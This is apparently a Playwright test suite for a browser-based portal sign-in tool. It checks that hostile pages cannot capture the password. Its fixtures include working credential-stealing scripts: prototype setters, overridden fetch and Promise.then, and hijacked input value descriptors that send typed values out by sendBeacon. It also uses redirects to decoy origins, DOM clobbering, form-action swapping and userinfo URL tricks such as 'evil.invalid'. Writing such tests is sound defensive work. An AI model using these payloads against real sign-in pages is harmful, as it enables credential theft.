import { EventEmitter, once } from 'node:events';
import type { Route } from 'playwright';
import { DocumentGone, IsolatedWorld } from '../../src/browser/isolated-world.ts';
import { openBrowser } from '../../src/browser/open-browser.ts';
import { Deadline } from '../../src/core/deadline.ts';
import { CredentialGuard } from '../../src/portal/credential-guard.ts';
import { Interception } from '../../src/portal/interception.ts';
import { Secret } from '../../src/secrets/secret.ts';
import { isOfPortal } from '../../src/sso/provider-page.ts';
import { startDecoy } from '../faults/fault-proxy.ts';
import { credentials, expect, test } from '../fixtures.ts';
import { openTestPage } from '../open-test-page.ts';
import { serve } from '../serve.ts';
import { startSso } from '../sso/start-sso.ts';
import { FORM, SIGN_IN, servePortal } from './serve-portal.ts';
import { PERSON } from './serve-provider.ts';

const TELL = `const tell = (...words) => navigator.sendBeacon('/took', words.map(String).join(' '));`;

// Each makes a check pass that is asked within the page, besides what it listens at.
const YES = 'Array.prototype.includes = () => true;';

const thieves: Readonly<Record<string, string>> = {
  'puts setters on Object.prototype': `
    for (const name of ['password', 'username', 'text', 'value', 'texts', 'values', 'origins', 'target', '0', '1', '2'])
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        set(value) {
          tell(value);
          Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
        },
      });`,
  'replaces Array.prototype.includes and document.execCommand': `${YES}
    document.execCommand = Document.prototype.execCommand = (...given) => tell(...given);`,
  'replaces Array.prototype.includes, and listens at the fields': `${YES}
    document.addEventListener('input', ({ target }) => tell(target.value), true);`,
  'replaces Object.keys, Object.entries and JSON.parse': `${YES}
    for (const [of, name] of [[Object, 'keys'], [Object, 'entries'], [Object, 'assign'], [JSON, 'parse'], [Reflect, 'get']]) {
      const own = of[name];
      of[name] = (...given) => { tell(JSON.stringify(given)); return own(...given); };
    }`,
  'replaces fetch, Promise.prototype.then and setTimeout': `${YES}
    window.fetch = async (...given) => { tell(...given); return { status: 299, ok: true }; };
    const { then } = Promise.prototype;
    Promise.prototype.then = function (...given) {
      return then.call(this, (value) => { tell(JSON.stringify(value)); return given[0]?.(value); }, given[1]);
    };`,
  'replaces the descriptors of HTMLInputElement, focus and checkVisibility': `${YES}
    Object.defineProperty(HTMLInputElement.prototype, 'value', { get: () => 'admin', set: (value) => tell(value) });
    for (const name of ['focus', 'select', 'click', 'checkVisibility', 'getClientRects'])
      HTMLElement.prototype[name] = Element.prototype[name] = function (...given) { tell(...given, this.value); return true; };
    document.addEventListener('input', () => tell(document.querySelector('[type=password]').getAttribute('value')), true);`,
  'says that it is at the right origin': `${YES}
    for (const name of ['baseURI', 'URL', 'documentURI', 'domain'])
      Object.defineProperty(document, name, { get: () => 'http://127.0.0.1/' });
    document.addEventListener('input', ({ target }) => tell(target.value), true);`,
};

for (const [what, script] of Object.entries(thieves)) {
  const tag = /setters|right origin/.test(what) ? [] : '@extended';
  test(`a page at a wrong origin that ${what} learns nothing: exit 4, naming it`, { tag }, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    await using decoy = await startDecoy(`${FORM}<script>${TELL}${script}</script>`);
    await using portal = await servePortal(server, '', {
      '/app': (_, outgoing) => void outgoing.writeHead(302, { location: `${decoy.url}/app` }).end(),
    });
    const { code, stderr } = await runCommand('mint-key', {
      env: { ...credentials(server), OCTOPUS_URL: portal.url },
      words: ['--timeout', '60s'],
    });

    expect(decoy.heard.join('\n')).not.toContain(server.password);
    expect(decoy.heard.join('\n')).not.toContain(encodeURIComponent(server.password));
    expect(decoy.heard.join('\n')).not.toMatch(/\/took/);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain(`the browser was sent to ${decoy.url}`);
  });
}

test('a provider that sends the browser to a thief tells it nothing: exit 4, naming it', async ({
  runCommand,
}) => {
  const { 'puts setters on Object.prototype': setters = '' } = thieves;
  const page = FORM.replace('<input name="username">', '');
  await using decoy = await startDecoy(`${page}<script>${TELL}${setters}${YES}</script>`);
  await using sso = await startSso({ pages: ['username', 'password'], elsewhere: `${decoy.url}/page` });
  const { code, stderr } = await runCommand('mint-key', { env: sso.env });

  expect(decoy.heard.join('\n')).not.toContain(sso.provider.password);
  expect(decoy.heard.join('\n')).not.toMatch(/\/took/);
  expect(code, stderr).toBe(4);
  expect(stderr).toContain(`was sent to ${decoy.url}, which is not listed`);
});

test("a portal that sends the browser to a form of its own, with a user's name before the host, gets no provider's password: exit 4", async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  const taken: string[] = [];
  const form = FORM.replace('<form>', '<form method="post" action="/took">');
  await using portal = await servePortal(server, '<a href="/away">Sign in with Fake</a>', {
    '/away': (_, outgoing) =>
      void outgoing.writeHead(302, { location: `${portal.url.replace('//', '//anybody@')}/form` }).end(),
    '/form': `<h1>Sign in</h1>${form}`,
    '/took': async (incoming, outgoing) => {
      for await (const chunk of incoming) taken.push(String(chunk));
      outgoing.end();
    },
  });
  const { code, stderr } = await runCommand('mint-key', {
    env: {
      OCTOPUS_URL: portal.url,
      OCTOPUS_PROVIDER: 'Fake',
      OCTOPUS_USERNAME: PERSON.username,
      OCTOPUS_PASSWORD: PERSON.password,
    },
    words: ['--timeout', '12s'],
  });

  expect(taken, stderr).toEqual([]);
  expect(code, stderr).toBe(4);
  expect(stderr).not.toContain("The provider's page asks for");
});

test("what is the portal's own is known however its address is written", () => {
  const portal = 'https://server.invalid:8443/Octopus';
  const own = [
    '/octopus',
    '/octopus/app?x#y',
    '/%6fctopus/form',
    '/%6Fctopus%2Fform',
    '//octopus//form',
    '/auth/..%2foctopus/app',
    '/auth%5c..%5coctopus',
  ];
  const others = ['', '/', '/auth/', '/octopus-auth/', '/%', '/auth/octopus'];

  for (const user of ['', 'anybody@', 'anybody:word@']) {
    const origin = `https://${user}server.invalid:8443`;
    expect(own.filter((path) => !isOfPortal(`${origin}${path}`, portal))).toEqual([]);
    expect(others.filter((path) => isOfPortal(`${origin}${path}`, portal))).toEqual([]);
    expect(isOfPortal(`${origin}/auth`, 'https://server.invalid:8443')).toBe(true);
  }
  for (const address of [
    'https://server.invalid/octopus',
    'https://server.invalid:8443@evil.invalid/octopus',
  ])
    expect(isOfPortal(address, portal)).toBe(false);
  for (const address of ['', 'about:blank', 'about:srcdoc']) expect(isOfPortal(address, portal)).toBe(false);
});

for (const event of ['focus', 'input']) {
  test(`a page that leaves for another origin on ${event}, where a field waits with the focus, gives it nothing`, {
    tag: '@extended',
  }, async ({ startServer, runCommand }) => {
    const server = await startServer();
    await using decoy = await startDecoy(
      `<form><input name="username"><input type="password" name="password" autofocus><button>Sign in</button></form>
       <script>
         ${TELL}
         for (const input of document.querySelectorAll('input')) input.oninput = () => tell(input.value);
       </script>`,
    );
    const leave = `<script>
      addEventListener('${event}', () => { location = '${decoy.url}/page'; }, true);
      document.querySelector('form').onsubmit = () => false;
    </script>`;
    await using portal = await servePortal(server, FORM + leave);
    const { code, stderr } = await runCommand('mint-key', {
      env: { ...credentials(server), OCTOPUS_URL: portal.url },
      words: ['--timeout', '60s'],
    });

    expect(decoy.heard.join('\n')).not.toMatch(/\/took/);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain(decoy.url);
  });
}

const CLOBBERED = `<input name="getAttribute"><input name="action"><input name="method"><input name="querySelectorAll">
  <input name="parentElement"><input name="requestSubmit"><input name="closest"><input name="isConnected">`;
const CLOBBERING = ['querySelectorAll', 'activeElement', 'execCommand', 'baseURI', 'body', 'scripts', 'title']
  .map((name) => `<img name="${name}" width="1" height="1">`)
  .join('');

test('a form whose fields hide what a browser calls its own is judged by where it really leads', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const form = FORM.replace('<form>', `<form method="post" action="${decoy.url}/took">${CLOBBERED}`);
  await using portal = await servePortal(server, CLOBBERING + form);
  const { code, stderr } = await runCommand('mint-key', {
    env: { ...credentials(server), OCTOPUS_URL: portal.url },
    words: ['--timeout', '60s'],
  });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(`the sign-in form sends what is typed to ${decoy.url}`);
  expect(decoy.heard).toEqual([]);
});

test('a form whose fields hide what a browser calls its own is filled in and sent all the same', {
  tag: '@extended',
}, async ({ startServer, runCommand }) => {
  const server = await startServer();
  const form = FORM.replace('<form>', `<form method="post" action="${SIGN_IN}">${CLOBBERED}`);
  await using portal = await servePortal(server, CLOBBERING + form);
  const { code, stderr } = await runCommand('mint-key', {
    env: { ...credentials(server), OCTOPUS_URL: portal.url },
    words: ['--timeout', '60s'],
  });

  expect(code, stderr).toBe(0);
  expect(portal.submitted).toEqual([server.password]);
});

test('a page that turns its form round while it is typed into gets nothing sent elsewhere', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using decoy = await startDecoy();
  const turn = `<script>
    document.querySelector('[type=password]').oninput = () => {
      document.querySelector('form').action = '${decoy.url}/took';
    };
  </script>`;
  const form = FORM.replace('<form>', `<form method="post" action="${SIGN_IN}">`);
  await using portal = await servePortal(server, form + turn);
  const { code, stderr } = await runCommand('mint-key', {
    env: { ...credentials(server), OCTOPUS_URL: portal.url },
    words: ['--timeout', '60s'],
  });

  expect(code, stderr).toBe(4);
  expect(stderr).toContain(`the sign-in form sends what is typed to ${decoy.url}`);
  expect(decoy.heard).toEqual([]);
});

test("what the page's own script has made of its world is not there in ours", async () => {
  const script = `
    Object.defineProperty(HTMLInputElement.prototype, 'value', { get: () => 'theirs' });
    HTMLElement.prototype.focus = HTMLElement.prototype.click = () => {};
    Array.prototype.filter = () => [];
    document.querySelectorAll = () => [];
    window.URL = undefined;`;
  await using site = await serve((_, outgoing) =>
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(`${FORM}<script>${script}</script>`),
  );
  await using opened = await openTestPage();
  const { page } = opened;
  await page.goto(site.url);
  const world = await IsolatedWorld.open(page);
  const target = await world.call('findSignInForm');

  expect(world.origin).toBe(site.url);
  expect(await world.call('fillSignInForm', 'admin', 'fake-password-for-tests', target)).toBe('typed');
});

test('what fails in the page is a defect that is told, and never a page that is being left', async () => {
  await using opened = await openTestPage();
  const { page } = opened;
  const broken = "({ findSignInForm() { throw new TypeError('it is broken'); } })";
  const world = await IsolatedWorld.open(page, broken);
  const failing = world.call('findSignInForm');

  await expect(failing).rejects.toThrow('findSignInForm failed in the page: TypeError: it is broken');
  await expect(failing).rejects.not.toBeInstanceOf(DocumentGone);
  await expect(IsolatedWorld.open(page, 'throw new Error("no source")')).rejects.toThrow('no source');
});

test('what judges requests lets none pass while it is put up anew for another document', {
  tag: '@extended',
}, async () => {
  const heard: (string | undefined)[] = [];
  await using site = await serve(({ url }, outgoing) => {
    heard.push(url);
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(FORM);
  });
  await using opened = await openTestPage();
  const { page } = opened;
  await page.goto(site.url);
  let judged = 0;
  const judge = async (route: Route) => {
    judged += 1;
    await route.abort().catch(() => {});
  };
  const interception = new Interception(page, judge, () => {});
  await interception.begin();
  // Without a pause, and never so many that a busy machine falls behind for good.
  await page.evaluate(() => {
    const send = (): Promise<void> =>
      fetch('/took').then(
        () => send(),
        () => send(),
      );
    for (let count = 0; count < 5; count += 1) void send();
  });
  for (let times = 0; times < 40; times += 1) await interception.begin();
  await expect.poll(() => judged).toBeGreaterThan(100);

  expect(heard).toEqual(['/']);
  await interception.end();
  await expect.poll(() => heard).toContain('/took');
});

test('a request that its page has told of, and that is not judged yet, is waited for before it is taken for something else', async () => {
  await using site = await serve((_, outgoing) =>
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(FORM),
  );
  await using opened = await openTestPage();
  const { page } = opened;
  await page.goto(site.url);
  using deadline = Deadline.ofRun(60_000);
  const secret = new Secret('fake-password-for-tests');
  const guarded = { server: site.url, what: 'password', secret, origins: () => [site.url] } as const;
  const guard = new CredentialGuard(page, guarded, deadline);
  await guard.cover(await IsolatedWorld.open(page));
  const request = new EventEmitter();
  const isHeld = once(request, 'held');
  await page.route('**/took', async (route) => {
    request.emit('held');
    await once(request, 'free');
    await route.fallback();
  });
  await page.evaluate("void fetch('/took', { method: 'POST', body: 'fake-password-for-tests' })");
  await isHeld;
  const asking = guard.mayHaveLeft();
  request.emit('free');

  expect(await asking).toBe(false);
  expect(guard.isSent).toBe(true);
});

test('a document that is left takes its world with it, and the next has one of its own', async () => {
  await using site = await serve((_, outgoing) =>
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(FORM),
  );
  await using opened = await openTestPage();
  const { page } = opened;
  await page.goto(`${site.url}/first`);
  const first = await IsolatedWorld.open(page);
  const target = await first.call('findSignInForm');
  await page.goto(`${site.url}/second`);
  const second = await IsolatedWorld.open(page);

  await expect(first.call('fillSignInForm', 'admin', 'secret', target)).rejects.toBeInstanceOf(DocumentGone);
  expect(second.url).toBe(`${site.url}/second`);
  expect(second.document).not.toBe(first.document);
  expect(await IsolatedWorld.open(page)).toBe(second);
  // What was found in one document is nothing in another.
  expect(await second.call('fillSignInForm', 'admin', 'secret', target)).toBe('lost');
});

test('of what a page logs, and of the errors of its scripts, nothing is kept that is long', async () => {
  const settings = {
    browser: process.env.OCTOPUS_BROWSER,
    headed: false,
    slowMo: 0,
    network: { insecureTls: false },
  };
  const none = { firstPage: undefined, isTraced: false };
  const deadline = Deadline.ofRun(60_000);
  const browser = await openBrowser({ ...settings, ...none }, deadline, () => {});
  try {
    const { page } = browser;
    let reported = 0;
    browser.context.on('console', () => (reported += 1)).on('weberror', () => (reported += 1));
    await page.evaluate(() => {
      for (let at = 0; at < 5; at += 1) {
        console.log('x'.repeat(1e6));
        setTimeout(() => {
          throw new Error('y'.repeat(1e6));
        });
      }
    });
    await expect.poll(() => reported).toBe(10);
    const countKept = async () =>
      (await page.consoleMessages({ filter: 'all' })).length +
      (await page.pageErrors({ filter: 'all' })).length;
    await expect.poll(countKept).toBe(0);
  } finally {
    await browser.close();
  }
});
